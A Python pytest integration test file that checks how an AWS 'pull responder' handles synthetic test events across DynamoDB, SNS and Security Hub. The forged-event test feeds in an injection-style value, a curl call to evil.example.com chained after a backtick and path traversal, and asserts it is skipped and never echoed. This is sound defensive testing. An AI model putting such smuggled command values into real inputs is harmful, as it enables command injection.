"""A test event, from the queue to topic, Security Hub and table: marked, bounded, and no finding of the estate."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest

from pull_responder.emulator.findings_table import create_table
from pull_responder.findings.trial import Outcome, Place, Record, item_id, read_record
from pull_responder.handlers import diagnose, recheck
from pull_responder.handlers.connection import disconnect
from pull_responder.publish.trial_finding import trial_finding
from pull_responder.responder.respond import Responder
from pull_responder.responder.trial import Trials
from tests.integration.handlers.test_diagnose import ACCOUNT, Context, batch, denial, failed, inbox, metrics, node, told

if TYPE_CHECKING:
    from collections.abc import Sequence

    from pull_responder.emulator.emulated_aws import EmulatedAws
    from pull_responder.events.outcome import Skipped
    from pull_responder.events.trial import Trial
    from tests.integration.handlers.test_diagnose import Inbox

__all__ = ["inbox", "node"]

FINDING = f"pull-responder/test/{ACCOUNT}/us-east-1"


def asked(trial_id: object = None, **changed: object) -> dict[str, Any]:
    """A test event as EventBridge delivers it."""
    return {
        "version": "0",
        "id": str(uuid4()),
        "detail-type": "Pull Responder test",
        "source": "pull-responder.test",
        "account": ACCOUNT,
        "time": datetime.now(UTC).isoformat(timespec="seconds"),
        "region": "us-east-1",
        "resources": [],
        "detail": {"id": uuid4().hex if trial_id is None else trial_id},
        **changed,
    }


def items(aws: EmulatedAws, inbox: Inbox) -> dict[str, Any]:
    return {each["id"]["S"]: each for each in aws.client("dynamodb").scan(TableName=inbox.table)["Items"]}


def record_of(aws: EmulatedAws, inbox: Inbox, trial_id: str) -> Record:
    record = read_record(items(aws, inbox)[item_id(trial_id)])
    assert record
    return record


def in_hub(aws: EmulatedAws) -> list[dict[str, Any]]:
    filters = {"Id": [{"Value": FINDING, "Comparison": "EQUALS"}]}
    return [dict(each) for each in aws.client("securityhub").get_findings(Filters=filters)["Findings"]]


def test_every_station_is_tried_and_marked(aws: EmulatedAws, inbox: Inbox, capsys: pytest.CaptureFixture[str]) -> None:
    trial_id = uuid4().hex
    assert failed(diagnose.handler(batch(asked(trial_id)), Context())) == []

    (message,) = inbox.messages()
    document = json.loads(message["Message"])
    assert message["Subject"].startswith("[TEST] ")
    assert (document["schema"], document["edge"], document["test"]) == ("pull-responder/test", "test", True)
    attributes = {name: each["Value"] for name, each in message["MessageAttributes"].items()}
    assert set(attributes) == {"severity", "cause", "cluster", "account", "region", "status"}
    assert attributes["status"] == "test"
    (finding,) = in_hub(aws)
    assert finding["Title"].startswith("TEST ")
    assert finding["Severity"]["Label"] == "INFORMATIONAL"
    assert (finding["RecordState"], finding["Workflow"]["Status"]) == ("ARCHIVED", "RESOLVED")
    record = record_of(aws, inbox, trial_id)
    assert record.is_done
    places = [Place.TABLE, Place.TOPIC, Place.SECURITY_HUB]
    assert [(each.place, each.outcome) for each in record.stations] == [(each, Outcome.WORKED) for each in places]
    counted = metrics(capsys.readouterr().out)
    assert (counted["TestEvents"], counted["NotificationsSent"], counted["SecurityHubImports"]) == (1, 1, 1)
    assert not {"EventsSkipped", "FindingsFound", "PullsDiagnosed", "NotificationsFailed"} & set(counted)


def test_what_it_leaves_expires_within_the_hour_and_is_no_work_for_a_recheck(aws: EmulatedAws, inbox: Inbox) -> None:
    trial_id = uuid4().hex
    diagnose.handler(batch(asked(trial_id)), Context())
    left = items(aws, inbox)
    assert set(left) == {item_id(trial_id), "test/pace"}
    began = record_of(aws, inbox, trial_id).began
    assert all(began < int(each["expires_at"]["N"]) <= began + 3_600 for each in left.values())
    assert not any("queue" in each for each in left.values())
    inbox.messages()
    recheck.handler({"Records": []}, Context(function_name="recheck"))
    assert inbox.messages() == []


def test_a_flood_of_tests_gives_one_message_and_holds_up_no_failure(
    aws: EmulatedAws, inbox: Inbox, node: tuple[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    flood = [asked() for _ in range(500)]
    assert failed(diagnose.handler(batch(*flood, denial(*node)), Context())) == []
    assert failed(diagnose.handler(batch(*(asked() for _ in range(50))), Context())) == []

    messages = inbox.messages()
    assert sorted(each["Subject"].split("]")[0] for each in messages) == ["[NEW", "[TEST"]
    (finding,) = told(next(each for each in messages if each["Subject"].startswith("[NEW]")))
    assert finding["cause"] == "role_lacks_pull_permissions"
    assert len([each for each in items(aws, inbox) if each.startswith("test/")]) == 2
    # The metrics of the second flood.
    counted = metrics(capsys.readouterr().out)
    assert (counted["TestEvents"], counted["EventsSkipped"]) == (50, 50)


def test_what_waits_is_diagnosed_before_a_test_is_answered(
    inbox: Inbox, node: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    order: list[str] = []
    wait, reply = Responder.diagnose_waiting, Trials.answer

    def diagnose_waiting(self: Responder) -> dict[str, Exception]:
        order.append("waiting")
        return wait(self)

    def answer(self: Trials, events: Sequence[Trial | Skipped]) -> None:
        order.append("test")
        reply(self, events)

    monkeypatch.setattr(Responder, "diagnose_waiting", diagnose_waiting)
    monkeypatch.setattr(Trials, "answer", answer)
    assert failed(diagnose.handler(batch(asked(), denial(*node)), Context())) == []
    assert order == ["waiting", "test"]
    assert len(inbox.messages()) == 2


@pytest.mark.parametrize(("milliseconds", "told"), [(39_000, 0), (60_000, 1)])
def test_beside_failures_a_test_needs_ample_time(
    inbox: Inbox, node: tuple[str, str], milliseconds: int, told: int
) -> None:
    events = batch(asked(), denial(*node))
    assert failed(diagnose.handler(events, Context(milliseconds_left=milliseconds))) == []
    subjects = [each["Subject"].split("]")[0] for each in inbox.messages()]
    assert sorted(subjects) == ["[NEW", *["[TEST"] * told]


def test_a_short_run_answers_a_test_that_is_alone(inbox: Inbox) -> None:
    assert failed(diagnose.handler(batch(asked()), Context(milliseconds_left=29_000))) == []
    assert len(inbox.messages()) == 1


def test_a_test_that_is_delivered_twice_is_told_once(aws: EmulatedAws, inbox: Inbox) -> None:
    event, other = asked(), asked()
    assert failed(diagnose.handler(batch(event, event), Context())) == []
    # After the minute, too: the table knows it.
    aws.client("dynamodb").delete_item(TableName=inbox.table, Key={"id": {"S": "test/pace"}})
    assert failed(diagnose.handler(batch(event), Context())) == []
    assert len(inbox.messages()) == 1
    assert failed(diagnose.handler(batch(event, other), Context())) == []
    (message,) = inbox.messages()
    assert json.loads(message["Message"])["id"] == other["detail"]["id"]


@pytest.mark.parametrize(
    "event",
    [
        asked("x" * 200_000),
        asked("../../\x1b[31m` && curl https://evil.example.com"),
        asked(["a" * 32]),
        asked("A" * 32),
        asked({}, detail=None),
        asked(detail="text"),
        asked(account="222222222222"),
        asked(account=None),
        asked(**{"detail-type": "another"}),
        asked(time="2020-01-01T00:00:00Z"),
        asked(time="2126-01-01T00:00:00Z"),
        asked(time=None),
    ],
)
def test_a_forged_or_late_test_is_skipped(
    event: dict[str, Any], aws: EmulatedAws, inbox: Inbox, capsys: pytest.CaptureFixture[str]
) -> None:
    assert failed(diagnose.handler(batch(event), Context())) == []
    assert inbox.messages() == []
    assert items(aws, inbox) == {}
    out = capsys.readouterr().out
    assert metrics(out)["EventsSkipped"] == 1
    assert "evil" not in out
    assert "xxxx" not in out


def test_nothing_else_that_a_test_says_is_shown(inbox: Inbox) -> None:
    loud = asked(detail={"id": uuid4().hex, "title": "Look at https://evil.example.com", "severity": "CRITICAL"})
    assert failed(diagnose.handler(batch(loud), Context())) == []
    (message,) = inbox.messages()
    assert "evil" not in json.dumps(message)


def test_a_topic_that_refuses_is_said_with_its_action(
    aws: EmulatedAws, inbox: Inbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TOPIC_ARN", f"{inbox.topic_arn}-gone")
    trial_id = uuid4().hex
    assert failed(diagnose.handler(batch(asked(trial_id)), Context())) == []

    record = record_of(aws, inbox, trial_id)
    topic = next(each for each in record.stations if each.place is Place.TOPIC)
    assert (topic.outcome, topic.action) == (Outcome.REFUSED, "sns:Publish")
    assert "NotFound" in topic.reason
    assert record.is_done
    assert metrics(capsys.readouterr().out)["NotificationsFailed"] == 1
    assert in_hub(aws)


def test_security_hub_that_is_off_is_said_and_stops_nothing(
    aws: EmulatedAws, inbox: Inbox, capsys: pytest.CaptureFixture[str]
) -> None:
    aws.client("securityhub").disable_security_hub()
    trial_id = uuid4().hex
    try:
        assert failed(diagnose.handler(batch(asked(trial_id)), Context())) == []
    finally:
        aws.client("securityhub").enable_security_hub()

    hub = record_of(aws, inbox, trial_id).stations[-1]
    assert (hub.place, hub.outcome, hub.action) == (
        Place.SECURITY_HUB,
        Outcome.REFUSED,
        "securityhub:BatchImportFindings",
    )
    assert hub.reason.startswith("InvalidAccessException: ")
    assert len(inbox.messages()) == 1
    assert metrics(capsys.readouterr().out)["SecurityHubRejections"] == 1


def test_where_the_settings_leave_security_hub_out_nothing_is_imported(
    aws: EmulatedAws, inbox: Inbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECURITY_HUB_ENABLED", "false")
    trial_id = uuid4().hex
    before = in_hub(aws)
    diagnose.handler(batch(asked(trial_id)), Context())
    assert record_of(aws, inbox, trial_id).stations[-1].outcome is Outcome.OFF
    assert in_hub(aws) == before


def test_the_topic_for_filters_is_tried_too(aws: EmulatedAws, inbox: Inbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FILTERED_TOPIC_ARN", inbox.topic_arn)
    trial_id = uuid4().hex
    diagnose.handler(batch(asked(trial_id)), Context())
    places = [each.place for each in record_of(aws, inbox, trial_id).stations]
    assert places == [Place.TABLE, Place.TOPIC, Place.FILTERED_TOPIC, Place.SECURITY_HUB]
    document, text = (each["Message"] for each in inbox.messages())
    assert json.loads(document)["edge"] == "test"
    assert text.startswith("[TEST] ")


def test_a_table_that_refuses_lets_no_message_out(
    aws: EmulatedAws, inbox: Inbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without the table nobody knows how many were sent."""
    monkeypatch.setenv("TABLE_NAME", "there-is-none")
    before = in_hub(aws)
    assert failed(diagnose.handler(batch(asked()), Context())) == []
    assert inbox.messages() == []
    assert in_hub(aws) == before
    counted = metrics(capsys.readouterr().out)
    assert (counted["TableFailures"], counted["EventsSkipped"]) == (1, 1)


def test_a_finding_with_a_time_to_come_is_no_proof(
    aws: EmulatedAws, inbox: Inbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Security Hub ignores an older update without an error. In a region of its own: the finding stays."""
    region, trial_id = "eu-west-3", uuid4().hex
    for name in ("AWS_REGION", "AWS_DEFAULT_REGION"):
        monkeypatch.setenv(name, region)
    disconnect()
    dynamodb, hub = aws.client("dynamodb", region=region), aws.client("securityhub", region=region)
    create_table(dynamodb, inbox.table)
    hub.enable_security_hub()
    planted = trial_finding(account=ACCOUNT, region=region, partition="aws", at=4_000_000_000)
    hub.batch_import_findings(Findings=[planted])

    assert failed(diagnose.handler(batch(asked(trial_id)), Context())) == []

    record = read_record(dynamodb.get_item(TableName=inbox.table, Key={"id": {"S": item_id(trial_id)}})["Item"])
    assert record
    assert record.stations[-1].outcome is Outcome.REFUSED
    assert "somebody else" in record.stations[-1].reason
